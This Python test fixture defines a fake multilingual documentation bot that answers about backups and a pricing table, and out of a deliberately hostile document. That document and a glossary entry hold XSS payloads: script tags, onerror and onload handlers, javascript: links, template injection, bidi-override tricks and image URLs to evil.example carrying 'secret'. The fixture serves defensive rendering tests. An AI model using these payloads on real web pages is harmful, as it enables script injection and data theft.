"""A small bot for the page, over a few documents in memory; it finds by keyword. tests/test_bots.py holds it to Bot."""

# ruff: noqa: E501 - a paragraph of a document is one line
from __future__ import annotations

import time
from collections.abc import Generator, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from hashlib import sha256
from typing import Any

from bot.answering.cite import phrase
from bot.answering.fold import folded
from bot.bot import LONGEST, Names
from bot.checking.beside import Beside, beside
from bot.checking.report import Report
from bot.feedback import Feedback
from bot.glossary import Glossary, OpenedTerm
from bot.languages.locale import codes, locale
from bot.languages.settle import understood
from bot.languages.talk import reply
from bot.records import (
    Answer,
    Citation,
    Document,
    Done,
    Dropped,
    Event,
    Evidence,
    EvidenceFound,
    Holding,
    LanguageSettled,
    ModelError,
    Notice,
    NoticeGiven,
    Outcome,
    Page,
    Passage,
    Question,
    QuestionError,
    Sentence,
    SentenceDropped,
    SentenceReady,
    Source,
    Span,
    State,
    Turn,
)
from bot.terminology.entries import Entry, Wording

BACKUP = {
    "en": """# Backups

## Keeping and restoring

A backup is made every night at 02:00. Each one is kept for 30 days and then deleted. To get a file back, open **History**, choose a day and press *Restore*. Restoring takes 2.5 minutes for a gigabyte.
""",
    "sv": """# Säkerhetskopior

## Spara och återställa

En säkerhetskopia görs varje natt klockan 02.00. Varje kopia sparas i 30 dagar och raderas sedan. För att få tillbaka en fil öppnar du **Historik**, väljer en dag och trycker på *Återställ*. Det tar 2,5 minuter att återställa en gigabyte.
""",
    "da": """# Sikkerhedskopier

## Gemme og gendanne

Der tages en sikkerhedskopi hver nat klokken 02.00. Hver kopi gemmes i 30 dage og slettes derefter. Du får en fil tilbage ved at åbne **Historik**, vælge en dag og trykke på *Gendan*. Det tager 2,5 minutter at gendanne en gigabyte.
""",
    "nl": """# Back-ups

## Bewaren en terugzetten

Elke nacht om 02.00 uur wordt een back-up gemaakt. Elke back-up wordt 30 dagen bewaard en daarna verwijderd. Een bestand haal je terug door **Geschiedenis** te openen, een dag te kiezen en op *Terugzetten* te drukken. Een gigabyte terugzetten duurt 2,5 minuten.
""",
    "ms": """# Sandaran

## Menyimpan dan memulihkan

Sandaran dibuat setiap malam pada pukul 02:00. Setiap sandaran disimpan selama 30 hari dan kemudian dipadamkan. Untuk mendapatkan semula fail, buka **Sejarah**, pilih hari dan tekan *Pulihkan*. Pemulihan mengambil masa 2.5 minit bagi setiap gigabait.
""",
}
KEPT = {
    "en": "Each one is kept for 30 days and then deleted.",
    "sv": "Varje kopia sparas i 30 dagar och raderas sedan.",
    "da": "Hver kopi gemmes i 30 dage og slettes derefter.",
    "nl": "Elke back-up wordt 30 dagen bewaard en daarna verwijderd.",
    "ms": "Setiap sandaran disimpan selama 30 hari dan kemudian dipadamkan.",
}
SPEED = {
    "en": "Restoring takes 2.5 minutes for a gigabyte.",
    "sv": "Det tar 2,5 minuter att återställa en gigabyte.",
    "da": "Det tager 2,5 minutter at gendanne en gigabyte.",
    "nl": "Een gigabyte terugzetten duurt 2,5 minuten.",
    "ms": "Pemulihan mengambil masa 2.5 minit bagi setiap gigabait.",
}
QUESTIONS = {
    "en": "How long is a backup kept?",
    "sv": "Hur länge sparas en säkerhetskopia?",
    "da": "Hvor længe gemmes en sikkerhedskopi?",
    "nl": "Hoelang wordt een back-up bewaard?",
    "ms": "Berapa lama sandaran disimpan?",
}
HACK = "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>"
TERMS = (
    Entry(
        "gigabyte",
        part_of_speech="noun",
        note="A thousand megabytes.",
        wordings={"sv": Wording("gigabyte", ("GB",), note="Inte gibibyte."), "ms": Wording("gigabait")},
    ),
    Entry("Restoring", keep=True),
    Entry(f'"{HACK}', note=HACK, wordings={"en": Wording("words", (HACK,), note=HACK)}),
)
CELLS = (("Plan", "Large"), ("Storage", "500 GB"), ("Price a month", "€9.00"))
PLANS = """# Plans

| Plan | Storage | Price a month |
| --- | --- | --- |
| Small | 50 GB | €2.50 |
| Large | 500 GB | €9.00 |

Run the program from the command line:

```sh
keep backup --now
keep list --days 30
```
"""
HOSTILE = """# Evil <img src=x onerror="alert('title')"> page

## <script>alert('heading')</script>

<script>window.hacked = true; alert(1)</script>
<img src="http://evil.example/pixel?q=secret" onerror="window.hacked = true">
![picture](http://evil.example/collect?data=secret) <svg onload=alert(2)> <iframe src="javascript:alert(3)"></iframe>
[click here](javascript:alert(4)) <a href="javascript:alert(5)">x</a> </mark></blockquote></div> ]](#source-1)
&lt;script&gt;alert(6)&lt;/script&gt; &amp; ${alert(7)} {{constructor.constructor('alert(8)')()}} `${window.hacked=true}`
Safe\u202egnihtyna ton si siht\u202c and pay\u200bment\ufeff words, $x^2$ and <style>*{display:none}</style> <base href="http://evil.example/">.
"""


def document(path: str, text: str, language: str, title: str, *, original: str | None, state: State) -> Document:
    """A document as a reader would make it."""
    link = f"https://docs.example.org/{path}"
    return Document(path, text, language, language, title, sha256(text.encode()).hexdigest(), original, state, (), link)


def backup(language: str) -> Document:
    """The page about backups: the original, or a translation, of which one is stale."""
    title = BACKUP[language].splitlines()[0].lstrip("# ")
    if language == "en":
        return document("guide/backup.md", BACKUP["en"], "en", title, original=None, state="original")
    path, state = f"translations/{language}/guide/backup.md", "stale" if language == "da" else "current"
    return document(path, BACKUP[language], language, title, original="guide/backup.md", state=state)


def hostile() -> Document:
    title = HOSTILE.splitlines()[0].lstrip("# ")
    return document("evil/<b>x</b>.md", HOSTILE, "en", title, original=None, state="original")


def passage(of: Document, start: int, group: str | None = None) -> Passage:
    """The rest of the document from `start`."""
    headings = tuple(line.lstrip("# ") for line in of.text[:start].splitlines() if line.startswith("#"))
    end = len(of.text.rstrip())
    return Passage(f"{of.path}:{start}", of.path, of.language, headings, None, "prose", start, end, group or of.path)


def source(of: Document, around: Passage, spans: Sequence[Span], **more: object) -> Source | Citation:
    """A source over spans of a document; a Citation where a number is given."""
    kind = Citation if "number" in more else Source
    return kind(
        path=of.path,
        language=of.language,
        title=of.title,
        heading_path=around.heading_path,
        anchor=None,
        link=of.link,
        state=of.state,
        spans=tuple(spans),
        quote="\n".join(of.text[s:e] for s, e in spans),
        passage=Span(around.start, around.end),
        passage_text=of.text[around.start : around.end],
        content_hash=of.content_hash,
        **more,  # type: ignore[arg-type]
    )


def found(text: str, words: str) -> Span:
    start = text.index(words)
    return Span(start, start + len(words))


Events = Generator[Event, None, tuple[Outcome, tuple[Page, ...]]]  # … and what it comes to, with pages to go on with


@dataclass
class FakeBot:
    """Answers about backups in five languages, about a table, and out of a hostile document.

    A word in the question chooses what is played: hostile, plans, nothing, broken, crash, slow.
    """

    title: str = "Example docs"
    writes: bool = False
    languages: tuple[str, ...] = codes()
    pause: float = 0.0

    takes_feedback: bool = True
    generation, encoder, reader = "1.1", "fake", None
    holds = Holding(6, dict.fromkeys(codes(), 2), datetime(2026, 11, 29, tzinfo=UTC))

    def __post_init__(self) -> None:
        self.heard: list[dict[str, object]] = []
        self.said: list[Feedback] = []
        self._glossary = Glossary(TERMS)

    def documents(self) -> tuple[Document, ...]:
        return tuple(replace(each, text="") for each in self._documents().values())

    def beside(self, path: str) -> Beside:
        found = self._documents()
        origin = found[path].original or path
        family = [replace(each, text="") for each in found.values() if origin in (each.path, each.original)]
        return beside(found[path], found.get(found[path].original or ""), family)

    def starts(self, language: str, *, choose: bool = True) -> tuple[str, ...]:
        return (QUESTIONS[language],)

    def limited(self, source: Names) -> FakeBot:
        """All that there is: it has no sources."""
        return self

    def check(self) -> Report:
        return Report((), (), ())

    def related(self, path: str) -> tuple[str, ...]:
        return tuple(each for each in QUESTIONS.values() if path in self._documents())

    def term(self, name: str, language: str) -> OpenedTerm:
        """Defined, as far as a page can tell, by how long it takes."""
        entry, shown = self._glossary.entry(name), backup(language)
        if entry.keep:
            return OpenedTerm(entry, language)
        there = passage(shown, shown.text.index("\n\n", shown.text.index("## ")) + 2)
        cited = source(shown, there, [found(shown.text, SPEED[language])], number=1)
        return OpenedTerm(entry, language, Sentence("quote", SPEED[language], language, (1,)), cited)

    def keep_feedback(self, said: Feedback) -> None:
        self.said.append(said)

    def ask(self, text: str, **options: Any) -> Answer:
        return next(event.answer for event in self.stream(text, **options) if isinstance(event, Done))

    def _documents(self) -> dict[str, Document]:
        made = [
            document("plans.md", PLANS, "en", "Plans", original=None, state="original"),
            hostile(),
            *map(backup, BACKUP),
        ]
        return {each.path: each for each in made}

    def stream(
        self,
        text: str,
        *,
        language: str | None = None,
        hint: str | None = None,
        history: Sequence[Turn] = (),
        write: bool | None = None,
        path: Names | None = None,
        source_language: Names | None = None,
        kind: Names | None = None,
        source: Names | None = None,
    ) -> Iterator[Event]:
        self.heard.append({"text": text, "language": language, "hint": hint, "history": history, "write": write})
        text = text.strip()
        if not any(character.isalpha() for character in text):
            raise QuestionError("There are no words in the question.", "empty")
        if len(text) > LONGEST:
            raise QuestionError("The question is too long.", "too_long", limit=str(LONGEST))
        if "broken" in text:
            raise ModelError("The model’s server at <localhost> does not answer: start it, or unset KILDE_LLM.")
        if "crash" in text:
            raise RuntimeError("secret internals")
        question, notices = understood(text, language=language, hint=hint, history=tuple(history))
        yield LanguageSettled(question)
        time.sleep(20 if "slow" in text else self.pause)
        told: list[Event] = []
        events = self._events(question, notices, self.writes and write is not False)
        while True:
            try:
                told.append(next(events))
            except StopIteration as end:
                yield Done(folded(text, question, told, *end.value))
                return
            yield told[-1]
            time.sleep(self.pause)

    def _events(self, question: Question, notices: Sequence[Notice], write: bool) -> Events:
        yield from map(NoticeGiven, notices)
        if talk := reply(question):
            yield SentenceReady(phrase(talk, question.language), ())
            return "talk", ()
        if "hostile" in question.text:
            return (yield from self._hostile())
        if "plans" in question.text:
            return (yield from self._plans(question.language))
        if "nothing" in question.text:
            return (yield from self._nothing(question.language))
        return (yield from self._backups(question.language, write))

    def _backups(self, language: str, write: bool) -> Events:
        original, shown = backup("en"), backup(language)
        start = shown.text.index("\n\n", shown.text.index("## ")) + 2
        there = passage(shown, start, original.path)
        theirs = passage(original, original.text.index("A backup"), original.path)
        plans = document("plans.md", PLANS, "en", "Plans", original=None, state="original")
        other = Evidence(passage(plans, PLANS.index("Run the")), plans, 0.2)
        yield EvidenceFound((Evidence(there, shown, 0.9, {}, theirs, original), other))
        cited = []
        for number, words in ((1, KEPT), (2, SPEED)):
            beside = source(original, theirs, [found(original.text, words["en"])]) if language != "en" else None
            cited.append(
                source(
                    shown,
                    there,
                    [found(shown.text, words[language])],
                    number=number,
                    passage_id=there.id,
                    original=beside,
                )
            )
        kind = "written" if write else "quote"
        lead = locale(language).phrases["unsure"]
        sentences = (
            *(() if write else (Sentence("phrase", lead, language),)),
            Sentence(kind, KEPT[language], language, (1,), 0.9),
            Sentence(kind, SPEED[language], language, (2,), 0.8),
        )
        yield from self._said(sentences, cited)
        if write:
            yield SentenceDropped(Dropped("It is kept for 90 <b>days</b>.", "number", {"number": "90"}))
        if shown.state == "stale":
            yield NoticeGiven(Notice("stale", {"page": shown.title}))
        return "answer", ()

    def _plans(self, language: str) -> Events:
        shown = document("plans.md", PLANS, "en", "Plans", original=None, state="original")
        row, header = found(PLANS, "| Large | 500 GB | €9.00 |"), found(PLANS, "| Plan | Storage | Price a month |")
        end = PLANS.index("\n\nRun")
        table = Passage("plans:1", shown.path, "en", ("Plans",), None, "table", row.start, end, "plans")
        code = passage(shown, PLANS.index("Run the"))
        cited = [
            source(shown, table, [header, row], number=1, passage_id=table.id),
            source(shown, code, [found(PLANS, "keep backup --now\nkeep list --days 30")], number=2, passage_id=code.id),
        ]
        yield EvidenceFound((Evidence(table, shown, 0.7),))
        sentences = (
            Sentence("phrase", locale(language).phrases["unsure"], language),
            Sentence(
                "quote", "Plan: Large; Storage: 500 GB; Price a month: €9.00", "en", (1,), 0.8, "row", cells=CELLS
            ),
            Sentence("quote", "keep backup --now\nkeep list --days 30", "en", (2,), 0.8, "code", mark="sh"),
        )
        yield from self._said(sentences, cited)
        if language != "en":
            yield NoticeGiven(Notice("other_language", {"language": locale(language).languages["en"]}))
        return "answer", ()

    def _hostile(self) -> Events:
        title, heading = (line.lstrip("# ") for line in HOSTILE.splitlines() if line.startswith("#"))
        shown = hostile()
        start = HOSTILE.index("<script>window")
        there = Passage("evil:1", shown.path, "en", (title, heading), None, "prose", start, len(HOSTILE), "evil")
        spans = [Span(start, start + 60), found(HOSTILE, "[click here](javascript:alert(4))")]
        cited = [source(shown, there, spans, number=1, passage_id=there.id)]
        bad = Source(**{f: getattr(cited[0], f) for f in Source.__slots__} | {"link": "javascript:alert(9)"})
        cited = [
            Citation(**{f: getattr(bad, f) for f in Source.__slots__}, number=1, passage_id="evil:1", original=bad)
        ]
        yield EvidenceFound((Evidence(there, shown, 0.9),))
        sentences = tuple(
            Sentence("quote", line, "en", (1,), 0.5, "item") for line in HOSTILE.splitlines() if line.strip()
        )
        yield from self._said(sentences, cited)
        return "answer", (Page("evil/\u202e.md", title, "en", "javascript:alert(10)"),)

    def _nothing(self, language: str) -> Events:
        words = locale(language).phrases
        sentences = (
            Sentence("phrase", words["none"][0], language),
            Sentence(
                "phrase",
                words["searched"]
                .replace("{documents}", "6")
                .replace("{languages}", locale(language).languages[language]),
                language,
            ),
        )
        yield EvidenceFound(())
        yield from self._said(sentences, [])
        backups = Page("guide/backup.md", "Backups", "en", "https://docs.example.org/guide/backup.md")
        return "none", (backups, Page("plans.md", "Plans", "en", None))

    def _said(self, sentences: Sequence[Sentence], cited: Sequence[Citation]) -> Iterator[Event]:
        for sentence in sentences:
            ready = SentenceReady(sentence, tuple(c for c in cited if c.number in sentence.citations))
            yield self._glossary.marked(ready)
